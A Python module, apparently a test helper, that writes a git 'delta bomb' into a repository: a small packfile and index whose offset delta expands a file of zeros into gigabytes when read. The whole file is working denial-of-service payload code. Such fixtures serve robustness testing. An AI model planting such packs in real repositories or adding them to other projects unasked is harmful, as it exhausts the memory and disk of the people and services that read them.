"""A delta bomb, as real git objects: a pack of a few kilobytes in which a delta of some hundred bytes
makes gigabytes out of a file of zeros. Git itself would never write it, and reads it as any other."""

import hashlib
import os
import struct
import zlib

COPY_SIZE = 0xFFFFFF  # what one instruction of a delta copies, at most
BLOB, OFFSET_DELTA = 3, 6

# Of this many times COPY_SIZE zeros the blob's id, for it takes seconds to compute one.
ID_OF = {
    1: "03d6e21a965c2dd704de9626291c61c77407b5e3",
    63: "83a191d6b5f2b70dcf8554ea589c059e1a0d3a07",
    200: "c07c7ddb7e03b998ec7c5d78f6824ed6c5da3a49",
}


def varint(number):
    """Seven bits a byte, lowest first."""
    out = bytearray()
    while number >= 0x80:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    out.append(number)
    return bytes(out)


def head(kind, size):
    """How an entry of a pack begins: its kind, and the size of what is packed."""
    first = kind << 4 | size & 0xF
    return bytes([first | 0x80]) + varint(size >> 4) if size > 0xF else bytes([first])


def distance(number):
    """How far before a delta its base begins."""
    out = [number & 0x7F]
    while number := number >> 7:
        number -= 1
        out.insert(0, number & 0x7F | 0x80)
    return bytes(out)


def entries(copies):
    """(id, bytes in the pack) of the base and of the delta."""
    zeros = bytes(COPY_SIZE)
    base = head(BLOB, len(zeros)) + zlib.compress(zeros, 9)
    copy = b"\xf0" + COPY_SIZE.to_bytes(3, "little")
    delta = varint(COPY_SIZE) + varint(copies * COPY_SIZE) + copies * copy
    packed = head(OFFSET_DELTA, len(delta)) + distance(len(base)) + zlib.compress(delta, 9)
    return [(ID_OF[1], base), (ID_OF[copies], packed)]


def index(rows, pack_sum):
    """The index of a pack, version 2, of (id, check sum, offset)."""
    rows = sorted(rows)
    out = b"\xfftOc" + struct.pack(">I", 2)
    for first in range(256):
        out += struct.pack(">I", sum(int(id_[:2], 16) <= first for id_, _, _ in rows))
    out += b"".join(bytes.fromhex(id_) for id_, _, _ in rows)
    out += b"".join(struct.pack(">I", check) for _, check, _ in rows)
    out += b"".join(struct.pack(">I", offset) for _, _, offset in rows) + pack_sum
    return out + hashlib.sha1(out).digest()


def plant(repository_path, copies):
    """Put the bomb into a repository; the ids of the small file and of the one that it becomes."""
    rows, pack = [], b"PACK" + struct.pack(">II", 2, 2)
    for id_, data in entries(copies):
        rows.append((id_, zlib.crc32(data), len(pack)))
        pack += data
    pack += hashlib.sha1(pack).digest()
    path = os.path.join(repository_path, ".git/objects/pack", f"pack-{pack[-20:].hex()}")
    for ending, data in (".pack", pack), (".idx", index(rows, pack[-20:])):
        with open(path + ending, "wb") as file:
            file.write(data)
    return ID_OF[1], ID_OF[copies]
